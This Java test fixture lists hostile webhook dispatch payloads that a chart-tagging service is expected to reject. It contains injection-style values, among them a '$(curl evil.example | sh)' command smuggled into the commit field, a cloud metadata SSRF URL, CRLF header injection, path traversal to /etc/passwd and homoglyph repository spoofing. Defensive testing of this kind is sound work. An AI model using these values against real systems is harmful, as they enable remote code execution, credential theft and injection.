package io.charttagger.dispatch;

import static io.charttagger.dispatch.HostileRequest.refused;
import static io.charttagger.dispatch.SavedEvents.apiBody;
import static io.charttagger.dispatch.SavedEvents.dispatch;
import static io.charttagger.dispatch.SavedEvents.text;

import java.util.List;

/** What is wrong with the dispatch, whichever way it came in. */
final class HostileDispatches {
  private static final String REPOSITORY = "\"example-org/helm-charts\"";
  private static final String AFTER = "\"9c1d4e7f2a5b8c0d3e6f9a2b5c8d1e4f7a0b3c6d\"";
  private static final String BEFORE = "\"5f2b1c9e8d7a6b5c4d3e2f1a0b9c8d7e6f5a4b3c\"";

  private HostileDispatches() {}

  static List<HostileRequest> all() {
    return List.of(
        refused(403, Rule.ALLOW_LIST, "somebody else's repository", repository("evil/charts")),
        refused(
            403,
            Rule.ALLOW_LIST,
            "another repository of an owner of whom one is listed",
            repository("example-org/secrets")),
        refused(
            403,
            Rule.ALLOW_LIST,
            "an owner that begins like a listed one",
            repository("kube-friends-evil/charts")),
        refused(
            403,
            Rule.ALLOW_LIST,
            "addresses that lead elsewhere",
            dispatch(
                REPOSITORY,
                "\"evil/charts\", \"url\": \"http://169.254.169.254/latest/meta-data/\"")),
        refused(
            400,
            Rule.FIELD,
            "a Cyrillic letter in the repository",
            repository("ex\u0430mple-org/helm-charts")),
        refused(
            400,
            Rule.FIELD,
            "a full-width letter in the repository",
            repository("ｅxample-org/helm-charts")),
        refused(
            400,
            Rule.FIELD,
            "a Kelvin sign in the repository",
            repository("\u212Aube-friends/charts")),
        refused(
            400,
            Rule.FIELD,
            "a zero-width space in the repository",
            repository("example-org\u200B/helm-charts")),
        refused(400, Rule.FIELD, "a path traversal as repository", repository("kube-friends/..")),
        refused(
            400,
            Rule.FIELD,
            "a path traversal in the repository",
            repository("kube-friends/../example-org/helm-charts")),
        refused(400, Rule.FIELD, "an encoded slash", repository("kube-friends%2fcharts")),
        refused(
            400,
            Rule.FIELD,
            "a query behind the repository",
            repository("kube-friends/charts?per_page=1")),
        refused(
            400,
            Rule.FIELD,
            "a header behind the repository",
            repository("kube-friends/charts\\r\\nHost: evil")),
        refused(
            400,
            Rule.FIELD,
            "a line end behind the repository",
            repository("example-org/helm-charts\\n")),
        refused(400, Rule.FIELD, "a wildcard as repository", repository("kube-friends/*")),
        refused(
            400,
            Rule.FIELD,
            "an address as repository",
            repository("https://github.com/kube-friends/charts")),
        refused(400, Rule.FIELD, "an empty repository", repository("")),
        refused(
            400,
            Rule.FIELD,
            "a repository of a million letters",
            repository("kube-friends/" + "a".repeat(1_000_000))),
        refused(
            400,
            Rule.FIELD,
            "null as repository",
            dispatch("{\n    \"full_name\": " + REPOSITORY + "\n  }", "null")),
        refused(400, Rule.FIELD, "null as repository's name", dispatch(REPOSITORY, "null")),
        refused(
            400,
            Rule.FIELD,
            "a list of repositories",
            dispatch(REPOSITORY, "[" + REPOSITORY + "]")),
        refused(400, Rule.FIELD, "a number as action", dispatch("\"charts-merged\"", "1")),
        refused(400, Rule.FIELD, "null as action", dispatch("\"charts-merged\"", "null")),
        refused(400, Rule.FIELD, "null as branch", dispatch("\"main\"", "null")),
        refused(403, Rule.BRANCH, "another branch", dispatch("\"main\"", "\"release\"")),
        refused(
            403,
            Rule.BRANCH,
            "another branch through API Gateway",
            apiBody(dispatch("\"main\"", "\"MAIN\""))),
        refused(400, Rule.FIELD, "no commit", dispatch("\"after\"", "\"head\"")),
        refused(400, Rule.FIELD, "null as commit", dispatch(AFTER, "null")),
        refused(
            400, Rule.FIELD, "an all-zero commit", dispatch(AFTER, "\"" + "0".repeat(40) + "\"")),
        refused(400, Rule.FIELD, "an abbreviated commit", dispatch(AFTER, "\"9c1d4e7\"")),
        refused(400, Rule.FIELD, "a branch as commit", dispatch(AFTER, "\"main\"")),
        refused(400, Rule.FIELD, "a number as commit", dispatch(AFTER, "1e40")),
        refused(
            400,
            Rule.FIELD,
            "a path as commit",
            dispatch(AFTER, "\"../../../evil/charts/git/refs/heads/mai\"")),
        refused(
            400,
            Rule.FIELD,
            "a shell command as commit",
            dispatch(AFTER, "\"$(curl evil.example | sh)\"")),
        refused(400, Rule.FIELD, "a line end behind the commit", dispatch("c6d\"", "c6d\\n\"")),
        refused(400, Rule.FIELD, "full-width digits in the commit", dispatch("\"9c1d", "\"９c1d")),
        refused(400, Rule.FIELD, "a list as the commit before", dispatch(BEFORE, "[]")),
        refused(400, Rule.FIELD, "an empty commit before", dispatch(BEFORE, "\"\"")),
        refused(
            400,
            Rule.FIELD,
            "null as payload",
            "{\"repository\":{\"full_name\":" + REPOSITORY + "},\"client_payload\":null}"),
        refused(
            400,
            Rule.FIELD,
            "a text as payload",
            "{\"repository\":{\"full_name\":" + REPOSITORY + "},\"client_payload\":\"{}\"}"),
        refused(
            400, Rule.FIELD, "no payload", "{\"repository\":{\"full_name\":" + REPOSITORY + "}}"),
        refused(
            400,
            Rule.TOO_LARGE,
            "a payload of 70 KB",
            payload("\"notes\": \"" + "x".repeat(70_000) + "\"")),
        refused(400, Rule.FIELD, "a dry run in quotation marks", dryRun("\"true\"")),
        refused(400, Rule.FIELD, "a dry run of one", dryRun("1")),
        refused(400, Rule.FIELD, "a dry run of null", dryRun("null")),
        refused(400, Rule.FIELD, "a dry run misspelt", payload("\"dryRun\": true")),
        refused(
            400,
            Rule.FIELD,
            "a dry run in the wrong place",
            dispatch("\"branch\"", "\"dry_run\": true, \"branch\"")),
        refused(400, Rule.FIELD, "no charts", payload("\"charts\": []")),
        refused(400, Rule.FIELD, "null as charts", payload("\"charts\": null")),
        refused(400, Rule.FIELD, "a text as charts", payload("\"charts\": \"a\"")),
        refused(400, Rule.FIELD, "null as chart", payload("\"charts\": [null]")),
        refused(400, Rule.FIELD, "a path as chart", payload("\"charts\": [\"../../etc/passwd\"]")),
        refused(400, Rule.FIELD, "a line end in a chart", payload("\"charts\": [\"a\\nb\"]")),
        refused(
            400,
            Rule.FIELD,
            "a chart of 64,000 letters",
            payload("\"charts\": [\"" + "a".repeat(64_000) + "!\"]")),
        refused(400, Rule.FIELD, "a fraction as installation", dispatch("51234567", "1.5")),
        refused(400, Rule.FIELD, "a power as installation", dispatch("51234567", "1e999999999")),
        refused(
            400,
            Rule.FIELD,
            "a number past 64 bits as installation",
            dispatch("51234567", "9223372036854775808")),
        refused(400, Rule.FIELD, "a negative installation", dispatch("51234567", "-1")),
        refused(400, Rule.FIELD, "a text as installation", dispatch("51234567", "\"51234567\"")),
        refused(400, Rule.FIELD, "null as installation", dispatch("51234567", "null")));
  }

  private static String repository(String name) {
    return dispatch(REPOSITORY, "\"" + name + "\"");
  }

  private static String payload(String field) {
    return dispatch("\"client_payload\": {", "\"client_payload\": {" + field + ",");
  }

  private static String dryRun(String value) {
    return SavedEvents.replaced(text("dry-run.json"), "\"dry_run\": true", "\"dry_run\": " + value);
  }
}
